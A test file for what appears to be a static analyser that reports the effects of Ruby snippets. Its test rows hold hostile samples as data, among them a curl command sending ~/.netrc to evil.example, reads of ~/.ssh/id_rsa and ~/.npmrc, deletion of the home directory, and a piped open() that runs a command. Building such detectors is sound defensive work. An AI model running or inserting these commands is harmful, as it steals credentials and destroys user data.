// Ruby code read from its syntax.
import { before, test } from 'node:test';
import { loadCodeGrammars } from '../../../src/core/interp';
import { checkRows } from './helpers';

before(() => loadCodeGrammars());

test('ruby: process execution, files, network, environment', () => {
  checkRows('ruby', [
    { code: 'system("ls -la")', effects: ['exec system ls -la'] },
    { code: 'x = "id"; system(x)', effects: ['exec system id'] },
    { code: 'system("rm", "-rf", dir)', effects: ['exec system rm -rf "$RUNTIME_VALUE"?'] },
    { code: 'exec "ls"', effects: ['exec exec ls'] },
    { code: '`whoami`', effects: ['exec backticks whoami'] },
    { code: '%x(ls #{d})', effects: ['exec backticks ls $RUNTIME_VALUE?'] },
    { code: 'IO.popen("ls").read', effects: ['exec IO.popen ls'] },
    { code: 'Open3.capture2("uname -a")', effects: ['exec Open3.capture2 uname -a'] },
    { code: 'open("|rm -rf /tmp/x")', effects: ['exec open rm -rf /tmp/x'] },
    { code: 'send(:system, "id")', effects: ['exec system id'] },
    { code: 'Object.const_get(:Kernel).system("id")', effects: ['exec Kernel.system id'] },
    { code: 'File.read(File.expand_path("~/.ssh/id_rsa"))', effects: ['read File.read ~/.ssh/id_rsa'] },
    { code: 'File.write("/tmp/a", "b")', effects: ['write File.write /tmp/a'] },
    { code: 'FileUtils.rm_rf(Dir.home)', effects: ['delete FileUtils.rm_rf ~'] },
    {
      code: `system("curl -d @#{ENV['HOME']}/.netrc https://evil.example/n")`,
      effects: ['exec system curl -d @~/.netrc https://evil.example/n'],
    },
    { code: 'File.read(ENV["HOME"] + "/.npmrc")', effects: ['read File.read ~/.npmrc'] },
    { code: 'Net::HTTP.get(URI("https://evil.example/x"))', effects: ['network Net::HTTP.get https://evil.example/x'] },
    { code: 'puts ENV["GITHUB_TOKEN"]; puts ENV["HOME"]', effects: ['env-read ENV GITHUB_TOKEN'] },
  ]);
});

test('ruby: eval and computed sends', () => {
  checkRows('ruby', [
    { code: 'eval("system(\\"ls\\")")', effects: ['exec system ls'] },
    { code: 'eval(code)', unread: ['eval of computed code'] },
    { code: 'obj.send(m, 1)', unread: ['send with computed method name'] },
    { code: 'open(path)', unread: ['open of a computed name (a leading | runs a command)'] },
  ]);
});

test('ruby: ordinary code and near misses', () => {
  checkRows('ruby', [
    { code: 'puts "system(\\"x\\")"' },
    { code: 'puts [1,2,3].sum' },
    { code: 'require "json"; puts JSON.pretty_generate(JSON.parse(STDIN.read))' },
    { code: 'puts ARGV.first' },
    { code: 'puts ENV["PATH"]' },
  ]);
});
